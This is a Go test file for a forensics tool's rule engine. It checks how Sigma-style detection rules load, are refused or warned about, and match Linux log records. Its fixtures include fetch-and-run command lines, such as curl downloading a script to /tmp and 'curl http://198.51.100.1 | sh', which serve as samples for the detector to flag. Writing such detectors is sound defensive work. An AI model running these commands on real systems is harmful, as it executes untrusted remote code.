package detect

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"icecore/forensics/model"
	"icecore/forensics/model/modeltest"
)

// load writes one rule to a directory and reads it as the user's.
func load(t testing.TB, rules ...string) *Rules {
	t.Helper()
	dir := t.TempDir()
	for i, r := range rules {
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("%02d.yml", i)), []byte(r), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	r, err := Load(Options{Dirs: []string{dir}, NoBuiltin: true})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

const head = "title: a rule\nlevel: high\ntags: [attack.execution, attack.t1059.004]\nlogsource: {product: linux, category: process_creation}\n"

// TestUserRules: rules as they are written for the public rule set, and what they
// must and must not see.
func TestUserRules(t *testing.T) {
	const job = "cron.job user=root; command=/usr/bin/curl -fsSL http://203.0.113.77/a.sh -o /tmp/A.sh; programs=/usr/bin/curl,sh; urls=http://203.0.113.77/a.sh; path=/etc/cron.d/x"
	for _, tt := range []struct{ name, detection, record, twin string }{
		{"image and command line", "  selection:\n    Image|endswith: '/curl'\n    CommandLine|contains|all:\n      - '-o'\n      - '/tmp/'\n  condition: selection\n", job, "command=/usr/bin/curl -o /srv/a"},
		{"a bare program name has a path", "  selection:\n    Image|endswith: '/sh'\n  condition: selection\n", job, "programs=/usr/bin/curl"},
		{"wildcards", "  selection:\n    CommandLine: '*curl*http?//*.sh *'\n  condition: selection\n", job, "command=/usr/bin/wget http://203.0.113.77/a.sh x"},
		{"wildcards within contains", "  selection:\n    CommandLine|contains: 'curl*-o /tmp/'\n  condition: selection\n", job, "command=/usr/bin/curl -o /srv/a"},
		{"no wildcard matches the whole value", "  selection:\n    User: root\n  condition: selection\n", job, "user=rooty"},
		{"without regard to case", "  selection:\n    CommandLine|contains: '/tmp/a.SH'\n  condition: selection\n", job, "command=/tmp/b.sh"},
		{"keywords", "  keywords:\n    - 'a.sh -o'\n    - 'never there'\n  condition: keywords\n", job, "command=/usr/bin/curl"},
		{"all keywords", "  keywords:\n    '|all':\n      - '-fsSL'\n      - '203.0.113.77'\n  condition: keywords\n", job, "command=/usr/bin/wget 203.0.113.77"},
		{"regular expression", "  selection:\n    CommandLine|re: 'https?://[0-9.]+/'\n  condition: selection\n", job, "command=curl http://host.example/"},
		{"one of several", "  selection_a:\n    CommandLine|startswith: '/nothing'\n  selection_b:\n    CommandLine|contains: curl\n  condition: 1 of selection_*\n", job, "command=wget"},
		{"with an exception", "  selection:\n    CommandLine|contains: curl\n  filter:\n    User: www-data\n  condition: selection and not filter\n", job, "user=www-data"},
		{"a field that is not there", "  selection:\n    decoded: null\n    CommandLine|contains: curl\n  condition: selection\n", job, "decoded=x"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := load(t, head+"detection:\n"+tt.detection)
			if len(r.Problems) > 0 {
				t.Fatal(r.Problems)
			}
			m := r.matcher()
			rec, twin := record(t, tt.record), with(t, tt.record, tt.twin)
			if len(m.match(&rec)) != 1 {
				t.Error("it does not match")
			}
			if len(m.match(&twin)) != 0 {
				t.Error("the twin matches")
			}
		})
	}
}

// TestRefusedRules: what cannot run is named, with the reason, and the rest runs.
func TestRefusedRules(t *testing.T) {
	const good = head + "detection:\n  selection:\n    CommandLine|contains: curl\n  condition: selection\n"
	for _, tt := range []struct{ name, rule, why string }{
		{"no YAML", "\t{", "cannot be read"},
		{"no rule", "a: b\n", "needs a title"},
		{"another system", strings.Replace(good, "linux", "windows", 1), "log source"},
		{"records that are not there", strings.Replace(good, "process_creation", "dns_query", 1), "log source"},
		{"a parent that starts no command on record", strings.Replace(good, "    CommandLine", "    ParentImage|endswith: /java\n    CommandLine", 1), `it can never match: no command line has the field "ParentImage"`},
		{"counting", strings.Replace(good, "condition: selection", "condition: selection | count() by User > 5", 1), "counts"},
		{"an unknown modifier", strings.Replace(good, "|contains", "|windash", 1), "windash"},
		{"an unknown modifier behind a condition that fails", head + "detection:\n  selection:\n    User: nobody-of-that-name\n    CommandLine|base64offset|contains: x\n  condition: selection\n", "base64offset"},
		{"a broken expression", strings.Replace(good, "contains: curl", "re: '('", 1), "missing closing"},
		{"a broken network", strings.Replace(good, "CommandLine|contains: curl", "address|cidr: '300.0.0.0/8'", 1), "CIDR"},
		{"a misspelt field", strings.Replace(good, "CommandLine", "Commandline", 1), `it can never match: no command line has the field "Commandline"`},
		{"a field that only Windows has", strings.Replace(good, "    CommandLine", "    LogonId: 0x3e7\n    CommandLine", 1), `it can never match: no command line has the field "LogonId"`},
		{"a field of another kind", strings.Replace(strings.Replace(good, "process_creation", "cron.run", 1), "CommandLine", "schedule", 1), `no cron.run record has the field "schedule"`},
		{"all of what can never match", head + "detection:\n  sel_a:\n    CommandLine|contains: a\n  sel_b:\n    comand: b\n  condition: all of sel_*\n", `the field "comand"`},
		{"no such family", strings.Replace(good, "process_creation", "host", 1), "log source"},
		{"no such kind", strings.Replace(good, "process_creation", "cron.jobs", 1), "log source"},
		{"a placeholder", strings.Replace(good, "curl", "'%tools%'", 1), "placeholder"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := load(t, tt.rule, good)
			if len(r.Problems) != 1 || !strings.Contains(r.Problems[0].Why, tt.why) || len(r.List()) != 1 {
				t.Fatalf("problems %v, %d rules", r.Problems, len(r.List()))
			}
		})
	}
}

// TestOddRules: a rule that can match in part is in force, and its author is warned.
func TestOddRules(t *testing.T) {
	for _, tt := range []struct{ name, detection, warning string }{
		{"one of two", "  a:\n    CommandLine|contains: curl\n  b:\n    ParentImage|endswith: /java\n  condition: a or b\n", `a part of it can never match: no command line has the field "ParentImage"`},
		{"one of them", "  a:\n    CommandLine|contains: curl\n  b:\n    ParentImage|endswith: /java\n  condition: 1 of them\n", `"ParentImage"`},
		{"a filter that never filters", "  a:\n    CommandLine|contains: curl\n  filter:\n    Usr: root\n  condition: a and not filter\n", `"Usr"`},
		{"one of a list of maps", "  a:\n    - CommandLine|contains: curl\n    - LogonId: 7\n  condition: a\n", `"LogonId"`},
		{"a field that must not be there", "  a:\n    CommandLine|contains: curl\n    LogonId: null\n  condition: a\n", `"LogonId"`},
		{"none", "  a:\n    CommandLine|contains: curl\n    Image|endswith: /curl\n    User: root\n  condition: a\n", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := load(t, head+"detection:\n"+tt.detection)
			if len(r.List()) != 1 || (tt.warning == "") != (len(r.Problems) == 0) {
				t.Fatalf("%d rules, problems %v", len(r.List()), r.Problems)
			}
			if tt.warning != "" && (!r.Problems[0].Warning || !strings.Contains(r.Problems[0].Why, tt.warning)) {
				t.Errorf("%+v, want %s", r.Problems[0], tt.warning)
			}
			rec := record(t, "cron.job command=curl x; programs=curl; user=root")
			if got := len(r.matcher().match(&rec)); got != 1 {
				t.Error("it does not match")
			}
		})
	}
	// Every family of kinds is a log source.
	for _, k := range model.Kinds() {
		family, _, _ := strings.Cut(string(k.Kind), ".")
		for _, category := range []string{family, string(k.Kind)} {
			r := load(t, "title: x\nlogsource: {product: linux, category: "+category+"}\ndetection:\n  keywords: [marker]\n  condition: keywords\n")
			if len(r.List()) != 1 || len(r.Problems) > 0 {
				t.Errorf("%s: %v", category, r.Problems)
			}
		}
	}
}

// TestHostileValues: what an image says ends no analysis.
func TestHostileValues(t *testing.T) {
	r := load(t, head+"detection:\n  selection:\n    count|gt: 5\n    CommandLine|contains: x\n  condition: selection\n")
	for _, v := range []string{"6", "~", "null", "", "[", "6e999", "0x10", "- a", "\xff\xfe", strings.Repeat("9", 1000)} {
		rec := model.Record{ID: "R-1", Kind: "cron.run", Source: model.Source{Volume: "p1"}}
		rec.Fields = modeltest.Fields(rec.Kind, "command=x", "count="+v)
		res, err := r.Run(t.Context(), &Input{Records: []model.Record{rec}})
		if err != nil {
			t.Fatalf("%q: %v", v, err)
		}
		if v == "6" && len(res.Findings) != 1 {
			t.Errorf("%q: %d findings", v, len(res.Findings))
		}
	}
}

// TestRulesByKind: no rule looks at a record of another kind, however it reads.
func TestRulesByKind(t *testing.T) {
	r := load(t, strings.Replace(head, "category: process_creation", "category: auth", 1)+"detection:\n  keywords: [marker]\n  condition: keywords\n")
	for _, tt := range []struct {
		record string
		match  bool
	}{{"auth.login user=marker", true}, {"auth.failures users=marker", true}, {"account.user name=marker", false}, {"history.command command=marker", false}} {
		rec := record(t, tt.record)
		if got := len(r.matcher().match(&rec)) > 0; got != tt.match {
			t.Errorf("%s: %v", tt.record, got)
		}
	}
}

// BenchmarkRun: the built-in rules over a hundred thousand records, of which a few
// match.
func BenchmarkRun(b *testing.B) {
	r, err := Load(Options{})
	if err != nil {
		b.Fatal(err)
	}
	var recs []model.Record
	for i := range 100_000 {
		var rec model.Record
		switch i % 5 {
		case 0:
			rec = model.Record{Kind: "auth.failures", Fields: modeltest.Fields("auth.failures", "address="+fmt.Sprintf("192.0.2.%d", i%250), "count=3", "users=root,admin")}
		case 1:
			rec = model.Record{Kind: "cron.run", Fields: modeltest.Fields("cron.run", "command=/usr/local/bin/job", "programs=/usr/local/bin/job")}
		case 2:
			rec = model.Record{Kind: "auth.sudo", Fields: modeltest.Fields("auth.sudo", "command=/usr/bin/systemctl restart app", "programs=/usr/bin/systemctl")}
		case 3:
			rec = model.Record{Kind: "systemd.exec", Fields: modeltest.Fields("systemd.exec", "command=/usr/bin/a", "programs=/usr/bin/a")}
		case 4:
			rec = model.Record{Kind: "history.command", Fields: modeltest.Fields("history.command", "command=curl http://198.51.100.1 | sh", "traits=fetch,pipe_to_shell")}
		}
		rec.ID = fmt.Sprintf("R-%06d", i)
		rec.Source = model.Source{Volume: "p1", Path: "/var/log/x", Inode: uint64(i % 7)}
		recs = append(recs, rec)
	}
	b.ResetTimer()
	for range b.N {
		res, err := r.Run(b.Context(), &Input{Records: slices.Clone(recs)})
		if err != nil {
			b.Fatal(err)
		}
		if len(res.Findings) > 100 {
			b.Fatalf("%d findings", len(res.Findings))
		}
	}
	b.ReportMetric(float64(b.Elapsed().Microseconds())/float64(b.N)/100_000, "µs/record")
}

// TestDescribe: what of a rule goes into its findings.
func TestDescribe(t *testing.T) {
	rule := func(level string, tags string) string {
		return "title: a rule\n" + level + "tags: [" + tags + "]\nlogsource: {product: linux, category: cron.job}\ndetection:\n  selection:\n    command: x\n  condition: selection\n"
	}
	for _, tt := range []struct {
		level, tags string
		want        Level
		phase       model.Phase
		techniques  string
	}{
		{"level: low\n", "attack.execution, attack.t1059.004", Low, PhaseExecution, "T1059.004"},
		{"", "attack.initial-access", Medium, PhaseAccess, ""},
		{"level: severe\n", "", Medium, PhaseExecution, ""},
		{"level: high\n", "attack.impact, attack.persistence, attack.t1496.001, attack.t1543", High, PhaseMining, "T1496.001 T1543"},
		{"level: high\n", "attack.persistence, attack.impact", High, PhaseMining, ""},
		{"level: high\n", "attack.execution, attack.persistence", High, PhasePersistence, ""},
		{"level: high\n", "attack.privilege_escalation", High, PhasePersistence, ""},
		{"level: high\n", "attack.credential-access, attack.execution", High, PhaseAccess, ""},
		{"level: high\n", "attack.defense-evasion, attack.credential-access", High, PhaseEvasion, ""},
		{"level: high\n", "attack.command-and-control, attack.tactic, attack.t", High, PhaseExecution, ""},
	} {
		r := load(t, rule(tt.level, tt.tags))
		if len(r.List()) != 1 {
			t.Errorf("%q: %v", tt.tags, r.Problems)
			continue
		}
		if i := r.List()[0]; i.Level != tt.want || i.Phase != tt.phase || strings.Join(i.Techniques, " ") != tt.techniques || i.Name != "a rule" {
			t.Errorf("%q: %+v", tt.tags, i)
		}
	}
}
